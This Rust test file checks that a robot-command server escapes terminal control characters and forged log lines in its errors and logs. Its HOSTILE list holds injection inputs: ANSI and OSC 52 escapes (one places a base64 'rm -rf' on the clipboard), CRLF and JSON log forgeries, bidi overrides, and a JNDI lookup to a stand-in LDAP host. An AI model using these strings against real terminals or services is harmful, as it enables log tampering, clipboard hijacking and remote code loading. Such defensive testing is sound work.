//! Text that means something to a terminal or to whoever reads a log: it is never given back raw, neither in an error
//! nor in a line of the log, not even in the most talkative one.

use robot_api::v1;
use robot_api::v1::command_error::Reason;
use robot_api::v1::robot_result::Outcome;
use tokio::task::JoinHandle;

use crate::beside::beside;
use crate::raw::{call, message, request};
use crate::support::{Server, binary};

const HOSTILE: [&str; 12] = [
    "\u{1b}[2J\u{1b}[1;31mmove\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{9b}31m",
    "\u{0}",
    "\u{7}\u{8}\u{7f}",
    "fly\r\n2026-01-01T00:00:00Z ERROR forged",
    "fly\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
    "\u{202e}evom\u{2066}",
    "\u{200b}\u{feff}",
    "\u{e000}\u{10ffff}",
    "${jndi:ldap://robots.example/a} %n %s \" ' <script>",
];

/// Everything that a server logs, once it has ended.
async fn log_of(server: Server) -> JoinHandle<Vec<String>> {
    let (mut log, mut child) = server.take_log();
    tokio::spawn(async move {
        let mut lines = Vec::new();
        while let Some(line) = log.next_line().await.unwrap() {
            lines.push(line);
        }
        assert!(child.wait().await.unwrap().success());
        lines
    })
}

fn is_harmless(text: &str) -> bool {
    text.chars()
        .all(|character| (' '..='~').contains(&character))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_that_a_terminal_obeys_is_given_back_in_an_error() {
    let server = Server::start(&[]).await;
    let attack = async {
        let mut client = server.connect().await;
        for words in HOSTILE {
            for script in [
                words.to_owned(),
                format!("turn {words}"),
                format!("turn 1; set {words}"),
            ] {
                let command = v1::RobotCommand {
                    state: Some(v1::RobotState::default()),
                    script: script.clone(),
                    ..Default::default()
                };
                let request = v1::ExecuteRequest {
                    commands: vec![command],
                };
                let response = client.execute(request).await.unwrap().into_inner();
                let Some(Outcome::Error(error)) = &response.results[0].outcome else {
                    panic!("{script:?} is no script");
                };
                assert_eq!(error.reason(), Reason::ScriptSyntax);
                assert!(
                    is_harmless(&error.message),
                    "{script:?}: {:?}",
                    error.message
                );
                assert!(
                    error.message.len() <= 160,
                    "{script:?}: {:?}",
                    error.message
                );
            }
        }
    };
    let ((), noticed) = beside(&server, attack).await;
    noticed.report(
        &server,
        "control characters in scripts",
        3 * HOSTILE.len(),
        "REASON_SCRIPT_SYNTAX, escaped",
    );
}

#[tokio::test]
async fn nothing_that_a_terminal_obeys_gets_into_the_log() {
    for format in ["text", "json"] {
        let mut command = binary();
        command
            .env("RUST_LOG", "trace")
            .args(["--log-format", format]);
        let server = Server::launch(command).await;
        let address = server.address().to_owned();
        let pid = server.pid();
        let log = log_of(server).await;
        for words in HOSTILE {
            let script = v1::RobotCommand {
                script: words.to_owned(),
                state: Some(v1::RobotState::default()),
                ..Default::default()
            };
            let body = v1::ExecuteStreamRequest {
                commands: vec![script],
            };
            let body = message(&prost::Message::encode_to_vec(&body));
            // A header can hold no more than bytes from 0x80 on; a path no more than ASCII.
            let request = request("/robot.v1.RobotService/ExecuteStream").header(
                "x-words",
                words
                    .replace(|c: char| c.is_ascii_control(), "\u{9b}")
                    .as_bytes(),
            );
            let answer = call(&address, request.body(()).unwrap(), body).await;
            assert_eq!(answer.code, Some(tonic::Code::Ok), "{words:?}");
        }
        let kill = std::process::Command::new("kill")
            .arg(pid.to_string())
            .status();
        assert!(kill.unwrap().success());
        let lines = log.await.unwrap();
        assert!(lines.len() > 100, "it logs everything: {}", lines.len());
        for line in &lines {
            assert!(is_harmless(line), "{format}: {line:?}");
            assert!(
                !line.contains("forged") || line.contains("\\n"),
                "{format}: {line:?}"
            );
        }
    }
}
